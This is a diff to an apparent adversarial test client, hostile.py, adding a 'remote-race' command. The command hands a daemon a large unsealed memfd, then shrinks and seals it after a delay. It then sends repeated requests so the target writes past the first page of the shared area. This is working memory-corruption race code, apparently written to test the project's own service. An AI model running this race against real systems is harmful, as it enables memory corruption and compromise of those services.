@@ -14,6 +14,13 @@
   hostile.py hold SOCK N              hold N idle connections open until killed
   hostile.py snapshot-close SOCK NAME send SNAPSHOT, close at once
   hostile.py remote SOCK sealed|unsealed  REMOTE_ENABLE with a memfd of its own
+  hostile.py remote-race SOCK SERVICE N DELAY  N times: REMOTE_ENABLE with a
+                                      large unsealed memfd, then after DELAY
+                                      seconds shrink it and seal it; when the target took it, a request
+                                      to SERVICE (examples/remote's rserv) for
+                                      that handle (20 of them) make it write past
+                                      the area's first page.
+                                      Prints how many it took
 """
 import os
 import socket
@@ -196,6 +203,40 @@ def remote(sock, seal):
     print(st[3] if st else -1, err, shrunk)
 
 
+def remote_race(sock, service, n, delay):
+    import fcntl
+    took = 0
+    for i in range(n):
+        fd = os.memfd_create("race", os.MFD_ALLOW_SEALING)
+        os.ftruncate(fd, 1 << 20)
+        handle = (1 << 56) | (i + 1)
+        arg = struct.pack("<IIIIQQ", 0, 1 << 17, 1, 0, 0, handle)
+        s = connect(sock)
+        s.sendmsg([frame(9, arg)], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", fd))])
+        time.sleep(delay)
+        os.ftruncate(fd, 16)
+        fcntl.fcntl(fd, fcntl.F_ADD_SEALS, fcntl.F_SEAL_SHRINK | fcntl.F_SEAL_GROW)
+        st = read_reply(s)
+        if st is None:
+            break  # the target is gone
+        if st[4]:
+            s.recv(st[4])
+        if st[3] == 0:
+            took += 1
+            try:
+                w = connect(service)
+                w.settimeout(10)
+                for _ in range(20):  # PCs past the first page of the area
+                    w.sendall(b"%x GET / HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n\n" % handle)
+                    w.recv(64)
+                w.close()
+            except OSError:
+                break
+        s.close()
+        os.close(fd)
+    print(took)
+
+
 def main():
     cmd = sys.argv[1]
     if cmd == "fake-target":
@@ -212,6 +253,8 @@ def main():
         snapshot_close(sys.argv[2], 5, sys.argv[3])
     elif cmd == "remote":
         remote(sys.argv[2], sys.argv[3] == "sealed")
+    elif cmd == "remote-race":
+        remote_race(sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5]))
     elif cmd == "snapshot-close":
         snapshot_close(sys.argv[2], 11, sys.argv[3])
     else:
